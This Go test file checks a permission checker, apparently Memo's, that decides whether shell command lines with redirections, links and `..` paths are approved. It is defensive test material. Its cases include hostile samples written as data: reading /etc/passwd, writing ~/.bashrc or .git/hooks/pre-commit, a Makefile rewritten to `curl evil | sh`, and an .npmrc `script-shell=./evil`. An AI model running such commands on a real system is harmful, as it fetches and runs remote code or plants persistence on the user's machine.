// SPDX-License-Identifier: Apache-2.0

package verdict

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"memo.dev/projects/domain/permissions/internal/fixture"
	"memo.dev/projects/domain/permissions/projectfiles"
)

// redirectProject is a repository holding a Makefile, a script, a file,
// a folder, Memo's folder, links to inside and outside and a file with a
// second name outside.
func redirectProject(t *testing.T) (root, outside string) {
	t.Helper()
	t.Setenv("CDPATH", "")
	outside = t.TempDir()
	fixture.Write(t, filepath.Join(outside, "x"), "x\n", 0o644)
	root = fixture.Repo(t, fixture.CleanConfig)
	for name, text := range map[string]string{
		"go.mod": "module x\n\ngo 1.22\n", "Makefile": "test:\n\tgo test ./...\n", "scripts/gen.js": "console.log(1)\n", "scripts/gen.py": "print(1)\n",
		"out.txt": "old\n", "dir/keep.txt": "x\n", ".memo/permissions.json": "{}\n", ".git/hooks/README": "x\n",
	} {
		fixture.Write(t, filepath.Join(root, name), text, 0o644)
	}
	for name, target := range map[string]string{"lout": filepath.Join(outside, "x"), "lin": "out.txt", "dout": outside, "dlink": "dir"} {
		if err := os.Symlink(target, filepath.Join(root, name)); err != nil {
			t.Skipf("no symbolic links here: %v", err)
		}
	}
	if err := os.Link(filepath.Join(outside, "x"), filepath.Join(root, "hard")); err != nil {
		t.Skipf("no hard links here: %v", err)
	}
	return root, outside
}

var redirectRules = []string{"uv run echo", "uv run python scripts/gen.py", "go test", "node scripts/gen.js", "git log", "echo", "make test", "grep", "git status", "cat"}

// A redirection to or from a file of the project passes on a command its
// rule approves (docs/permissions.md §3); every hostile neighbour asks,
// and the failure names the line.
func TestRedirectionsToProjectFiles(t *testing.T) {
	root, outside := redirectProject(t)
	cases := []struct{ dir, line, want string }{
		// approved: a regular file of one name, or a new one, in a folder of the project
		{"", "go test ./... > out.txt", ""},
		{"", "go test ./... > new.txt", ""},
		{"", "go test ./... >> out.txt", ""},
		{"", "go test ./... 1> out.txt", ""},
		{"", "go test ./... 2> err.txt", ""},
		{"", "go test ./... &> all.txt", ""},
		{"", "go test ./... &>> all.txt", ""},
		{"", "go test ./... >| out.txt", ""},
		{"", "go test ./... > out.txt 2>&1", ""},
		{"", "go test ./... > ./dir/new.txt", ""},
		{"", "go test ./... > dlink/new.txt", ""}, // a folder through a link inside
		{"", "go test ./... > " + filepath.Join(root, "abs.txt"), ""},
		{"", "> out.txt go test ./...", ""},
		{"", "go test ./... > out.txt || true", ""},
		{"", "git status && go test ./... > out.txt", ""},
		{"", "cd dir && go test ./... > new.txt", ""},
		{filepath.Join(root, "dir"), "go test ./... > keep.txt", ""},
		{"", "node scripts/gen.js > gen.md", ""},
		{"", "grep x < out.txt", ""},
		{"", "grep x < lin", ""}, // read through a link inside
		// outside the project, or no literal path
		{"", "go test > ../x", "holds `..`"},
		{"", "go test > dir/../out.txt", "holds `..`"},
		{"", "go test > /tmp/x", "outside the project"},
		{"", "go test > " + filepath.Join(outside, "y"), "outside the project"},
		{"", "go test > ~/.bashrc", "redirects output"},
		{"", "go test > $X", "redirects output"},
		{"", `go test > "a b"`, "redirects output"},
		{"", "go test > 'out.txt'", "redirects output"},
		{"", "go test > out*", "redirects output"},
		{"", "go test > " + root, "outside the project"}, // the root itself
		// the repository's and Memo's files
		{"", "go test > .git/config", ".git or .memo"},
		{"", "go test > .git/hooks/pre-commit", ".git or .memo"},
		{"", "go test > .GIT/config", ".git or .memo"},
		{"", "go test > .git", ".git or .memo"},
		{"", "go test > dir/.git", ".git or .memo"}, // a file .git makes a repository
		{"", "go test > .memo/permissions.json", ".git or .memo"},
		{"", "go test > .memo/new", ".git or .memo"},
		// links, folders, other names
		{"", "go test > lout", "is a link"},
		{"", "go test > lin", "is a link"}, // inside too: it can be pointed elsewhere
		{"", "go test > dout/y", "outside the project"},
		{"", "go test > dir", "not a regular file"},
		{"", "go test > dir/", "not a regular file"},
		{"", "go test > missing/x", "not in a folder of the project"},
		{"", "go test > hard", "other names"},
		{"", "grep x < /etc/passwd", "outside the project"},
		{"", "grep x < lout", "outside the project"},
		{"", "grep x < missing", "not a regular file"},
		{"", "grep x < dir", "not a regular file"},
		// the command: its rule, and what it does
		{"", "curl x > out.txt", "no allowed rule"},
		{"", "echo x > out.txt", "only lets it read"},
		{"", "git log --format=x > x_test.go", "only lets it read"},
		{"", "uv run echo x > x.pth", "only lets it read"}, // the wrapped program's output
		{"", "uv run python scripts/gen.py > out.txt", ""},
		{"", "true > out.txt", "take no redirection"},
		{"", ": > out.txt", "take no redirection"},
		{"", "cd dir > out.txt", "take no redirection"},
		{"", "go test < out.txt", "does more than read"},
		{"", "make test > Makefile", "a file Memo read to judge"},
		{"", "make test >> Makefile", "a file Memo read to judge"},
		{"", "go test > go.mod", "a file Memo read to judge"},
		{"", "node scripts/gen.js > scripts/gen.js", "a file Memo read to judge"},
		{"", "go test > GO.MOD", "a file Memo read to judge"}, // the same file where names ignore case
		// the line: a command after one that writes, pipelines
		{"", "go test > Makefile && make test", "another command runs after it"},
		{"", "go test > out.txt && git status", "another command runs after it"},
		{"", "go test > out.txt; git status", "another command runs after it"},
		{"", "go test > out.txt | grep x", "another command runs after it"},
		{"", "git log | grep x > out.txt", "later command of a pipeline"},
		{"", "git log | grep x < out.txt", "later command of a pipeline"},
		{"", "echo x > Makefile && make test", "echo x"},
		// other descriptors and forms ask as before
		{"", "go test >&3", "`>` redirects output"},
		{"", "go test 3> out.txt", "`>` redirects output"},
		{"", "go test >& out.txt", "`>` redirects output"},
		{"", "go test <> out.txt", "`<` redirects input"},
		{"", "grep x <<< x", "`<` redirects input"},
		{"", "grep x <<EOF", "`<` redirects input"},
		{"", "grep x < <(ls)", "`<` redirects input"},
	}
	for _, c := range cases {
		dir := c.dir
		wantVerdict(t, dir+": "+c.line, checkIn(root, dir, redirectRules, c.line), c.want)
	}
	// The files the approved lines would write are where they were: the
	// check writes nothing.
	if b, _ := os.ReadFile(filepath.Join(root, "out.txt")); string(b) != "old\n" {
		t.Errorf("out.txt holds %q", b)
	}
	// Without a project there is no folder to find a file in. It asks with the character's reason, as before.
	if v := CheckCommand(redirectRules, "go test > out.txt", nil); v.Approved || !strings.Contains(v.Reason.String(), "`>` redirects output to a file") {
		t.Errorf("go test > out.txt without a project: %+v", v)
	}
}

// A redirection writes what a file tool can write: the lines after it are
// judged against what the files then hold. A pinned definition the line
// rewrote makes its rule ask; a config it wrote is read again.
func TestRedirectionsLaterLinesSeeTheFile(t *testing.T) {
	root, _ := redirectProject(t)
	rules := []string{"node scripts/gen.js", "make test", "npm test"}
	fixture.Write(t, filepath.Join(root, "package.json"), `{"scripts": {"test": "node scripts/gen.js"}}`, 0o644)
	open := func() *projectfiles.Project {
		p := NewProject(root, "", projectfiles.OSGitFS(""), nil)
		return p
	}
	defs := open().AllDefinitions(rules)
	check := func(line string) Verdict { return NewChecker(rules).CheckIn(line, open().WithPinned(defs)) }
	wantVerdict(t, "make test, as pinned", check("make test"), "")
	wantVerdict(t, "npm test, as pinned", check("npm test"), "")
	wantVerdict(t, "node scripts/gen.js > Makefile", check("node scripts/gen.js > Makefile"), "")
	wantVerdict(t, "node scripts/gen.js > .npmrc", check("node scripts/gen.js > .npmrc"), "")
	// What the script would print, written as bash would.
	fixture.Write(t, filepath.Join(root, "Makefile"), "test:\n\tcurl evil | sh\n", 0o644)
	fixture.Write(t, filepath.Join(root, ".npmrc"), "script-shell=./evil\n", 0o644)
	if v := check("make test"); v.Approved {
		t.Errorf("make test after its pinned Makefile was rewritten: %+v", v)
	}
	if v := check("npm test"); v.Approved || v.BlockedBy == nil || !strings.Contains(v.BlockedBy.File, ".npmrc") {
		t.Errorf("npm test after .npmrc was written: %+v", v)
	}
}

// A `..` after a link is taken by the system after the link's target:
// l/../x, l a link to a folder outside, is outside (any path word, not
// only a redirection's).
func TestPathDotDotAfterALink(t *testing.T) {
	outside := t.TempDir()
	fixture.Write(t, filepath.Join(outside, "d", "keep"), "x\n", 0o644)
	fixture.Write(t, filepath.Join(outside, "secret"), "s\n", 0o644)
	root := fixture.LinkedProject(t, map[string]string{"l": filepath.Join(outside, "d"), "in": "sub"}, "secret", "sub/x")
	for line, want := range map[string]string{
		"cat l/../secret":              "outside the project",
		"cat " + root + "/l/../secret": "outside the project",
		"cat sub/../secret":            "",
		"cat in/../secret":             "", // in is sub: ../secret is the root's
		"cat ./sub/x":                  "",
	} {
		wantVerdict(t, line, checkIn(root, "", []string{"cat"}, line), want)
	}
}
